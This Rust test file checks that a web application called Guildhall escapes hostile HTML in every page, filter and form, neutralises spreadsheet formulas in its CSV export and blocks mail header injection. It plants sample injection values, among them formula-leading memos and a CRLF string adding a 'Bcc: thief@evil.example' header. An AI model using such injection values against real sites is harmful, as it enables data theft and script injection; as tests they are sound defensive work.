//! Text that would be HTML of its own if any page let it: in every field there is, on every page there
//! is, for everybody, in every filter, and given back by every form.
//!
//! The pages are those of the route table, the fields those of the database, the filters and forms
//! those of the pages themselves: a new one is in the test by being there.

use super::whole_company::{HOSTILE, addresses, ends_something, filled, spoiled_company};
use crate::support::company::Company;
use crate::support::page_parts::Page;
use crate::support::{Answer, TestServer, number, try_execute};
use axum::http::StatusCode;
use guildhall::accounts::Role;
use leptos_axum::generate_route_list;
use serde_json::json;
use std::collections::{BTreeMap, BTreeSet};

/// That the page holds no element, attribute or script but its own, and shows nothing escaped twice.
fn sound(answer: &Answer, what: &str) -> Page {
    let page = Page::read(&answer.body);
    if !answer.header("content-type").starts_with("text/html") {
        return page;
    }
    for element in &page.elements {
        assert_ne!(element.name, "x-hostile", "{what}: {}", answer.body);
        for (name, value) in &element.attributes {
            let fine = !name.starts_with("on") && name != "style" && !name.contains("hostile");
            assert!(fine, "{what}: {element:?}");
            let leads = matches!(name.as_str(), "href" | "src" | "action" | "formaction");
            let runs = value.trim().to_lowercase().starts_with("javascript:");
            assert!(!(leads && runs), "{what}: {element:?}");
        }
    }
    let ended = page.closed.iter().any(|name| name == "html");
    assert!(ended, "{what}: the page does not end: {}", answer.body);
    for text in &page.texts {
        assert!(!text.contains("&lt;x-hostile"), "{what}: twice: {text}");
    }
    page
}

fn refused(status: StatusCode) -> bool {
    matches!(
        status,
        StatusCode::SEE_OTHER | StatusCode::FORBIDDEN | StatusCode::NOT_FOUND
    )
}

#[tokio::test]
async fn every_page_shows_every_field_as_text_to_everybody() {
    let (server, mut everybody) = spoiled_company().await;
    let mut titles = BTreeSet::new();
    for route in generate_route_list(guildhall::app::Pages) {
        let mut seen = false;
        for address in addresses(&server.app, route.path()).await {
            for (who, client) in &mut everybody {
                let what = format!("{who} at {address}");
                let answer = client.get(&address).await;
                let page = sound(&answer, &what);
                let shown = answer.status == StatusCode::OK;
                assert!(shown || refused(answer.status), "{what}: {}", answer.status);
                seen |= shown;
                titles.insert(page.title);
            }
        }
        // The first page of the checkout is the cart where that is empty.
        assert!(
            seen || route.path() == "/checkout",
            "nobody sees {}",
            route.path()
        );
    }
    for whole in [" · Guildhall", &format!("{HOSTILE} · Guildhall")] {
        let so = titles.iter().filter(|title| title.ends_with(whole));
        assert!(so.count() > 5, "{titles:?}");
    }
}

/// The names of the filters: of the fields of forms that ask, and in the page's links to itself.
fn filters(page: &Page, address: &str) -> BTreeSet<String> {
    let mut names = BTreeSet::from(["q", "next", "cursor", "error"].map(str::to_owned));
    let asking = page.forms.iter().filter(|form| !form.posts);
    for field in asking.flat_map(|form| &form.fields) {
        names.extend(field.attribute("name").map(str::to_owned));
    }
    let links = page
        .elements
        .iter()
        .filter_map(|link| link.attribute("href"));
    for link in links {
        if let Some((path, query)) = link.split_once('?')
            && (path.is_empty() || path == address)
        {
            let pairs = form_urlencoded::parse(query.as_bytes());
            names.extend(pairs.map(|(name, _)| name.into_owned()));
        }
    }
    names
}

#[tokio::test]
async fn every_filter_of_every_page_is_given_back_as_text() {
    let (server, mut everybody) = spoiled_company().await;
    let mut tried = BTreeSet::new();
    for route in generate_route_list(guildhall::app::Pages) {
        let address = addresses(&server.app, route.path()).await.remove(0);
        for (who, client) in &mut everybody {
            let page = sound(&client.get(&address).await, &address);
            let names = filters(&page, &address);
            tried.extend(names.iter().map(|name| format!("{} {name}", route.path())));
            let every = names.iter().map(|name| (name.as_str(), HOSTILE));
            let mut queries: Vec<Vec<(&str, &str)>> = names
                .iter()
                .map(|name| vec![(name.as_str(), HOSTILE)])
                .collect();
            queries.push(every.collect());
            for query in queries {
                let mut text = form_urlencoded::Serializer::new(String::new());
                let text = text.extend_pairs(&query).finish();
                let sign = if address.contains('?') { '&' } else { '?' };
                let asked = format!("{address}{sign}{text}");
                let what = format!("{who} at {asked}");
                let answer = client.get(&asked).await;
                sound(&answer, &what);
                assert!(!answer.status.is_server_error(), "{what}: {}", answer.body);
            }
        }
    }
    assert!(tried.len() > 200, "{tried:?}");
    let mut visitor = server.visitor();
    let query: String = form_urlencoded::byte_serialize(HOSTILE.as_bytes()).collect();
    let answer = visitor.get(&format!("/products?q={query}")).await;
    assert!(sound(&answer, "the search").title.contains(HOSTILE));
}

#[tokio::test]
async fn every_form_gives_back_what_was_typed_as_text() {
    let (server, mut everybody) = spoiled_company().await;
    let mut forms: BTreeMap<String, usize> = BTreeMap::new();
    for route in generate_route_list(guildhall::app::Pages) {
        let address = addresses(&server.app, route.path()).await.remove(0);
        for (who, client) in &mut everybody {
            let page = Page::read(&client.get(&address).await.body);
            for form in page.forms.iter().filter(|form| form.posts) {
                let action = if form.action.is_empty() {
                    &address
                } else {
                    &form.action
                };
                if ends_something(action) {
                    continue;
                }
                *forms.entry(action.clone()).or_default() += 1;
                let fields = filled(form, HOSTILE);
                let fields: Vec<_> = fields
                    .iter()
                    .map(|(a, b)| (a.as_str(), b.as_str()))
                    .collect();
                client.referer = Some(address.clone());
                let answer = client.post(action, &fields).await;
                let what = format!("{who} posts {action} from {address}");
                sound(&answer, &what);
                assert!(!answer.status.is_server_error(), "{what}: {}", answer.body);
                if answer.status == StatusCode::SEE_OTHER {
                    let next = answer.header("location").to_owned();
                    sound(&client.get(&next).await, &format!("{what}, then {next}"));
                }
                client.referer = None;
            }
        }
    }
    assert!(forms.len() > 30, "{forms:?}");
}

#[tokio::test]
async fn a_title_reads_as_it_was_written() {
    let server = TestServer::start().await;
    let mut staff = server.signed_in(Role::Staff).await;
    let board = staff.post("/boards", &[("name", "Tea & Cups")]).await;
    let page = Page::read(&staff.page(board.header("location")).await);
    assert_eq!(page.title, "Tea & Cups · Guildhall");
    let body = json!({ "title": "Tea & Cups <now>", "description": "\n\n</textarea> & so" });
    let made = staff
        .send_json(axum::http::Method::POST, "/api/v1/tasks", body)
        .await;
    let id = made.data()["id"].as_i64().expect("an id");
    let page = Page::read(&staff.page(&format!("/tasks/{id}")).await);
    assert_eq!(page.title, "Tea & Cups <now> · Guildhall");
    let edit = Page::read(&staff.page(&format!("/tasks/{id}/edit")).await);
    let text = edit.texts.concat();
    assert!(text.contains("</textarea> & so") && !text.contains("&amp;"));
}

#[tokio::test]
async fn a_file_has_one_entry_for_each_transfer_whatever_is_written_in_it() {
    let (server, [_, _, (_, mut staff), _]) = spoiled_company().await;
    let lines = "UPDATE transfers SET memo = '=1+1;\n2026-01-01 * x\n    bank  CNY 1.00\r\n\n; a', \
                 reference = '\t@SUM(A1)' || reference";
    try_execute(&server.app, lines).await.expect("memos");
    let transfers = number(&server.app, "SELECT COUNT(*) FROM transfers").await;
    assert!(transfers > 5);
    let count = |found: usize| i64::try_from(found).expect("few");

    let file = staff.api("/ledger/journal.csv").await.body;
    let mut reader = csv::Reader::from_reader(file.as_bytes());
    let rows: Vec<_> = reader.records().collect::<Result<_, _>>().expect("CSV");
    assert_eq!(count(rows.len()), transfers);
    for field in rows.iter().flatten() {
        let sign = field.trim_start().chars().next();
        assert!(!matches!(sign, Some('=' | '+' | '@' | '-')), "{field:?}");
    }

    let journal = staff.api("/ledger/export.journal").await.body;
    let (mut heads, mut postings) = (0, 0);
    for line in journal.lines().skip(1) {
        match line {
            "" => {}
            line if line.starts_with("    ") => postings += 1,
            line if line.starts_with("20") => heads += 1,
            line => panic!("a line of its own: {line}"),
        }
    }
    assert_eq!((heads, postings), (transfers, 2 * transfers));
}

#[tokio::test]
async fn a_mail_has_the_headers_it_was_given_and_no_more() {
    const KNOWN: [&str; 9] = [
        "auto-submitted",
        "content-transfer-encoding",
        "content-type",
        "date",
        "from",
        "message-id",
        "mime-version",
        "subject",
        "to",
    ];
    let mut company = Company::open_to_listeners().await;
    let app = company.server.app.clone();
    let injected = "\r\nBcc: thief@evil.example\r\n\r\n<x-hostile>";
    let names = [
        format!("UPDATE users SET name = name || '{injected}'"),
        format!("UPDATE products SET name = name || '{injected}'"),
    ];
    for sql in &names {
        try_execute(&app, sql).await.expect("a name");
    }
    let order = company.place(2, "wallet").await;
    let parcel = json!({ "carrier": "SF Express", "tracking": "1\r\nBcc: thief@evil.example" });
    company.step(&order, "pack", json!({})).await;
    // Whatever is wrong with it is said, or mended; it is written into no header.
    let path = format!("/api/v1/orders/{order}/ship");
    let method = axum::http::Method::POST;
    company.staff.send_json(method, &path, parcel).await;
    company.deliver().await;
    let mails = company.mails();
    assert!(mails.len() >= 2, "{mails:?}");
    for name in mails {
        let (headers, _) = company.mail(&name);
        for line in headers
            .split("\r\n")
            .filter(|line| !line.starts_with([' ', '\t']))
        {
            let (name, _) = line.split_once(':').expect("a header");
            assert!(KNOWN.contains(&&*name.to_lowercase()), "{headers}");
        }
    }
}
